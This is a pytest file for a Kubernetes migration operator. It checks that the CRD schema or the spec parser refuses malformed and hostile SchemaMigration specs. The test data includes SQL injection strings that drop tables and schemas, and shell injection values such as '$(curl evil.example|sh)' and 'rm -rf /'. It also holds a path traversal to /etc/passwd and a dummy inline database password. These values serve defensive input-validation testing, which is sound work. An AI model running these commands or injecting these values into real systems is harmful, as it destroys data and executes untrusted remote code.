"""Hostile SchemaMigrations: every one must be refused, by the CRD schema (as the API server
applies it) or by the operator's spec parser (which becomes an InvalidSpec condition).

Each case is a valid resource with one field made hostile: wrong types, out-of-range
values, unknown fields (inline credentials among them), huge strings, and names/values
crafted as SQL or shell injection. The parser is also checked alone (defence in depth: the
emulator, old API servers and ``kubectl --validate=false`` don't enforce the schema), and
its messages must stay short and never echo a credential.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

import pytest
from crdcheck import schema_errors, schema_has_path

from schemaflow.kube.spec import SpecError, parse_spec

SECRET = "SfSecretPw7Qz9Xv"
INLINE_URL = f"postgresql://domainflow:{SECRET}@db.prod:5432/domainflow"
BUNDLED = (27,)
DELETE = object()

BASE: dict[str, Any] = {
    "apiVersion": "schemaflow.domainflow.io/v1alpha1",
    "kind": "SchemaMigration",
    "metadata": {"name": "domainflow", "namespace": "default"},
    "spec": {
        "database": {"urlSecretRef": {"name": "domainflow-db", "key": "url"}},
        "targetVersion": 27,
        "verify": {"enabled": True, "extraChecks": [
            {"name": "campaigns_exist", "sql": "SELECT 1 WHERE false"}]},
        "rollback": {"onVerificationFailure": True},
        "safety": {"lockTimeout": "5s", "lockRetries": 5, "statementTimeout": "0s",
                   "preflight": "strict"},
        "job": {"activeDeadlineSeconds": 600, "ttlSecondsAfterFinished": 3600,
                "serviceAccountName": "schemaflow-job",
                "resources": {"limits": {"cpu": "500m", "memory": "256Mi"}},
                "tolerations": [{"key": "db", "operator": "Exists"}]},
        "suspend": False,
    },
}


@dataclass(frozen=True)
class Case:
    id: str
    path: str  # dotted path from the object's root; list indexes as digits
    value: Any
    kind: str  # type | range | unknown | required | huge | injection | pattern


CASES = [
    # wrong types
    Case("target-string", "spec.targetVersion", "27", "type"),
    Case("target-float", "spec.targetVersion", 27.5, "type"),
    Case("target-bool", "spec.targetVersion", True, "type"),
    Case("target-list", "spec.targetVersion", [27], "type"),
    Case("database-string-inline-url", "spec.database", INLINE_URL, "type"),
    Case("secretref-string", "spec.database.urlSecretRef", "domainflow-db", "type"),
    Case("secretref-name-int", "spec.database.urlSecretRef.name", 123, "type"),
    Case("verify-enabled-string", "spec.verify.enabled", "yes", "type"),
    Case("rollback-string", "spec.rollback.onVerificationFailure", "false", "type"),
    Case("rollback-bool-section", "spec.rollback", True, "type"),
    Case("suspend-string", "spec.suspend", "true", "type"),
    Case("lockretries-string", "spec.safety.lockRetries", "3", "type"),
    Case("lockretries-float", "spec.safety.lockRetries", 2.5, "type"),
    Case("locktimeout-int", "spec.safety.lockTimeout", 5, "type"),
    Case("deadline-string", "spec.job.activeDeadlineSeconds", "600", "type"),
    Case("nodeselector-list", "spec.job.nodeSelector", ["disk=ssd"], "type"),
    Case("nodeselector-value-int", "spec.job.nodeSelector", {"disk": 1}, "type"),
    Case("tolerations-string", "spec.job.tolerations", "all", "type"),
    Case("extrachecks-object", "spec.verify.extraChecks", {"name": "x", "sql": "SELECT 1"}, "type"),
    Case("spec-string", "spec", "migrate everything", "type"),
    # out of range
    Case("target-negative", "spec.targetVersion", -1, "range"),
    Case("target-zero", "spec.targetVersion", 0, "range"),
    Case("target-over-int64", "spec.targetVersion", 2**63, "range"),
    Case("target-not-bundled", "spec.targetVersion", 99999, "range"),
    Case("lockretries-negative", "spec.safety.lockRetries", -1, "range"),
    Case("lockretries-huge", "spec.safety.lockRetries", 1_000_000, "range"),
    Case("deadline-zero", "spec.job.activeDeadlineSeconds", 0, "range"),
    Case("deadline-negative", "spec.job.activeDeadlineSeconds", -5, "range"),
    Case("deadline-year", "spec.job.activeDeadlineSeconds", 31_536_000, "range"),
    Case("ttl-negative", "spec.job.ttlSecondsAfterFinished", -1, "range"),
    Case("locktimeout-negative", "spec.safety.lockTimeout", "-5s", "range"),
    Case("locktimeout-words", "spec.safety.lockTimeout", "forever", "pattern"),
    Case("preflight-enum", "spec.safety.preflight", "yolo", "pattern"),
    Case("source-type-enum", "spec.source", {"type": "s3"}, "pattern"),
    Case("pullpolicy-enum", "spec.job.imagePullPolicy", "Sometimes", "pattern"),
    Case("toleration-operator", "spec.job.tolerations.0.operator", "Matches", "pattern"),
    Case("resources-quantity", "spec.job.resources.limits.cpu", "lots", "pattern"),
    Case("too-many-checks", "spec.verify.extraChecks",
         [{"name": f"c{i}", "sql": "SELECT 1 WHERE false"} for i in range(51)], "range"),
    Case("check-name-duplicate", "spec.verify.extraChecks",
         [{"name": "a", "sql": "SELECT 1"}, {"name": "a", "sql": "SELECT 2"}], "pattern"),
    Case("check-sql-empty", "spec.verify.extraChecks.0.sql", "", "range"),
    # unknown fields (inline credentials first)
    Case("inline-database-url", "spec.databaseUrl", INLINE_URL, "unknown"),
    Case("inline-url-in-database", "spec.database.url", INLINE_URL, "unknown"),
    Case("inline-password", "spec.database.password", SECRET, "unknown"),
    Case("inline-secretref-value", "spec.database.urlSecretRef.value", INLINE_URL, "unknown"),
    Case("unknown-top", "spec.foo", 1, "unknown"),
    Case("unknown-job-command", "spec.job.command", ["sh", "-c", "rm -rf /"], "unknown"),
    Case("unknown-job-env", "spec.job.env",
         [{"name": "DATABASE_URL", "value": INLINE_URL}], "unknown"),
    Case("unknown-safety", "spec.safety.skipLocks", True, "unknown"),
    Case("unknown-check-field", "spec.verify.extraChecks.0.commit", True, "unknown"),
    # required fields missing
    Case("no-database", "spec.database", DELETE, "required"),
    Case("no-secretref", "spec.database.urlSecretRef", DELETE, "required"),
    Case("no-secret-key", "spec.database.urlSecretRef.key", DELETE, "required"),
    Case("empty-secret-name", "spec.database.urlSecretRef.name", "", "required"),
    Case("no-spec", "spec", DELETE, "required"),
    Case("configmap-without-name", "spec.source", {"type": "configMap"}, "required"),
    # huge strings
    Case("huge-secret-name", "spec.database.urlSecretRef.name", "a" * 100_000, "huge"),
    Case("huge-secret-key", "spec.database.urlSecretRef.key", "k" * 10_000, "huge"),
    Case("huge-image", "spec.job.image", "registry.example/" + "x" * 10_000, "huge"),
    Case("huge-locktimeout", "spec.safety.lockTimeout", "5s" * 50_000, "huge"),
    Case("huge-check-sql", "spec.verify.extraChecks.0.sql", "SELECT 1 " * 5_000, "huge"),
    Case("huge-check-name", "spec.verify.extraChecks.0.name", "c" * 1_000, "huge"),
    Case("huge-metadata-name", "metadata.name", "a" * 300, "huge"),
    # names and values crafted as SQL or shell injection
    Case("sqli-secret-name", "spec.database.urlSecretRef.name",
         "db'; DROP TABLE campaigns; --", "injection"),
    Case("shell-secret-name", "spec.database.urlSecretRef.name", "$(curl evil.example|sh)",
         "injection"),
    Case("path-secret-name", "spec.database.urlSecretRef.name", "../../etc/passwd", "injection"),
    Case("shell-secret-key", "spec.database.urlSecretRef.key", "url`id`", "injection"),
    Case("sqli-target", "spec.targetVersion", "27; DROP TABLE schema_migrations", "injection"),
    Case("sqli-locktimeout", "spec.safety.lockTimeout", "5s'; DROP TABLE campaigns; --",
         "injection"),
    Case("sqli-statementtimeout", "spec.safety.statementTimeout",
         "0; RESET ALL; DROP SCHEMA public CASCADE", "injection"),
    Case("newline-locktimeout", "spec.safety.lockTimeout", "5s\n-- x", "injection"),
    Case("sqli-check-name", "spec.verify.extraChecks.0.name", "x; DROP TABLE t", "injection"),
    Case("newline-check-name", "spec.verify.extraChecks.0.name", "ok\n-- check: evil",
         "injection"),
    Case("shell-serviceaccount", "spec.job.serviceAccountName", "default; rm -rf /",
         "injection"),
    Case("shell-configmap", "spec.source", {"type": "configMap", "configMapName": "m && reboot"},
         "injection"),
    Case("shell-metadata-name", "metadata.name", "x;rm -rf /", "injection"),
    Case("unicode-metadata-name", "metadata.name", "dömäin\u202eflow", "injection"),
    Case("nul-secret-name", "spec.database.urlSecretRef.name", "db\x00x", "injection"),
]


def build(case: Case) -> dict[str, Any]:
    obj = copy.deepcopy(BASE)
    parts = case.path.split(".")
    node: Any = obj
    for part in parts[:-1]:
        node = node[int(part)] if part.isdigit() else node[part]
    last = parts[-1]
    key: Any = int(last) if last.isdigit() else last
    if case.value is DELETE:
        del node[key]
    else:
        node[key] = copy.deepcopy(case.value)
    return obj


def parser_error(obj: dict[str, Any]) -> str | None:
    try:
        parse_spec(obj.get("spec"), BUNDLED)
    except SpecError as exc:
        return str(exc)
    return None


def test_base_resource_is_valid() -> None:
    assert schema_errors(BASE) == []
    assert parser_error(BASE) is None


def test_at_least_40_distinct_hostile_cases() -> None:
    assert len({c.id for c in CASES}) == len(CASES) >= 40


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_hostile_spec_is_refused(case: Case) -> None:
    obj = build(case)
    if case.kind != "unknown" and not case.path.startswith("metadata."):
        # the field exists: a refusal is about the value, not an unknown-field accident
        assert schema_has_path(case.path), case.path
    by_schema = schema_errors(obj)
    by_parser = parser_error(obj)
    assert by_schema or by_parser, f"{case.id} accepted by both the CRD schema and the parser"
    if by_parser is not None:
        assert SECRET not in by_parser
        assert len(by_parser) <= 512, f"parser message {len(by_parser)} chars: goes to status"


# The parser alone must refuse what concerns it (spec fields), since the CRD schema is not
# always enforced (kmock emulator, --validate=false, old servers). Exempt: what only the API
# server judges (metadata.name) and Kubernetes-typed fields copied verbatim into the Job's
# pod spec (quantities, tolerations, nodeSelector), which the API server validates again
# when the operator creates the Job.
PARSER_ONLY_EXEMPT = {
    "huge-metadata-name", "shell-metadata-name", "unicode-metadata-name",
    "resources-quantity", "toleration-operator", "nodeselector-value-int",
}


@pytest.mark.parametrize(
    "case", [c for c in CASES if c.id not in PARSER_ONLY_EXEMPT], ids=lambda c: c.id)
def test_parser_alone_refuses(case: Case) -> None:
    assert parser_error(build(case)) is not None, (
        f"{case.id}: parse_spec accepts {case.path}={str(case.value)[:80]!r}; only the CRD "
        "schema stands between it and a Job")
